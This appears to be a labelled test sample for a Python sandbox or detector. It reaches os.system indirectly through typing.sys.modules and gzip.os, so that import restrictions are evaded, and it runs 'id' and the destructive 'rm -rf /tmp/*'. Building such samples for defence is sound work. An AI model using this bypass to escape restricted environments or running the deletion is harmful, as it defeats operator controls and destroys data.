# attack-class: 4
# title: typing.sys.modules to subprocess via gzip.os
# why: a two-module chain: typing.sys then gzip.os

import gzip
import typing

typing.sys.modules["posix"].system("id")
gzip.os.system("rm -rf /tmp/*")
